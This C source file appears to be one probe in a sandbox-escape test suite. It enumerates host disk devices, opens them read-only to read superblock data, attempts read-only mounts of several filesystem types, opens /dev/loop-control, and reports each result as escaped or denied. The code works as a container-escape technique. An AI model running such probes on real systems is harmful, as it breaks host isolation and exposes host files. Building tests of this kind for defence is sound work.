/* block_devices: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F20: host block devices. Opens (read-only, non-blocking) every disk name a host might have, reads the
 * first sector, and tries to mount it (ext4, xfs, btrfs, vfat, iso9660) read-only at /tmp; also lists
 * /proc/partitions, /sys/block and /dev/disk. A readable disk is the whole host filesystem (debugfs
 * style): any successful open or mount is self-reported; a mount also shows in the host's mount table
 * (knobs). */
#include <sys/mount.h>
static int esc;
int main(int argc, char **argv)
{
    if (argc > 1) NONCE = argv[1];
    dump_path("/proc/partitions", 600);
    const char *lists[] = {"/sys/block", "/dev/disk/by-id", "/dev/disk/by-uuid", "/dev/mapper", "/dev"};
    for (int i = 0; i < 5; i++) {
        DIR *d = opendir(lists[i]);
        if (!d) { printf("opendir %s: %s\n", lists[i], strerror(errno)); continue; }
        struct dirent *e; int n = 0; printf("LIST %s:", lists[i]); while ((e = readdir(d)) && n++ < 60) printf(" %s", e->d_name); printf("\n"); closedir(d);
    }
    char names[160][48]; int nn = 0;
    const char *pfx[] = {"sd", "vd", "xvd", "hd"};
    for (int p = 0; p < 4; p++) for (char c = 'a'; c <= 'd'; c++) {
        snprintf(names[nn++], 48, "/dev/%s%c", pfx[p], c);
        for (int k = 1; k <= 3; k++) snprintf(names[nn++], 48, "/dev/%s%c%d", pfx[p], c, k);
    }
    for (int i = 0; i < 3; i++) { snprintf(names[nn++], 48, "/dev/nvme%dn1", i); snprintf(names[nn++], 48, "/dev/nvme%dn1p1", i); snprintf(names[nn++], 48, "/dev/nvme%d", i); }
    const char *misc[] = {"/dev/mmcblk0", "/dev/mmcblk0p1", "/dev/dm-0", "/dev/dm-1", "/dev/md0", "/dev/loop0", "/dev/loop1", "/dev/sr0", "/dev/root", "/dev/mapper/control", "/dev/zram0", "/dev/nbd0", "/dev/rbd0", "/dev/sg0"};
    for (unsigned i = 0; i < sizeof misc / sizeof *misc; i++) snprintf(names[nn++], 48, "%s", misc[i]);
    mkdir("/tmp/gmnt", 0755);
    for (int i = 0; i < nn; i++) {
        int fd = open(names[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) { if (errno != ENOENT) printf("open %s: %s\n", names[i], strerror(errno)); continue; }
        char b[512]; long n = pread(fd, b, sizeof b, 1024);
        printf("OPENED %s, read %ld bytes of the superblock area\n", names[i], n);
        esc++; report(1, "open-block-device %s", names[i]);
        close(fd);
        const char *fs[] = {"ext4", "xfs", "btrfs", "vfat", "iso9660"};
        for (int f = 0; f < 5; f++)
            if (mount(names[i], "/tmp/gmnt", fs[f], MS_RDONLY, NULL) == 0) {
                printf("MOUNTED %s as %s\n", names[i], fs[f]); report(1, "mount-block-device %s", names[i]);
                DIR *d = opendir("/tmp/gmnt"); if (d) { struct dirent *e; int k = 0; while ((e = readdir(d)) && k++ < 30) printf(" %s", e->d_name); printf("\n"); closedir(d); }
                umount2("/tmp/gmnt", MNT_DETACH); break;
            }
    }
    /* a loop device over a file could map a host image; only probe the control node */
    int lc = open("/dev/loop-control", O_RDWR); printf("loop-control: %s\n", lc >= 0 ? "OPENED" : strerror(errno)); if (lc >= 0) { esc++; report(1, "loop-control"); close(lc); }
    printf("names probed: %d\n", nn);
    if (!esc) report(0, "block-devices");
    usleep(400000);
    return 0;
}
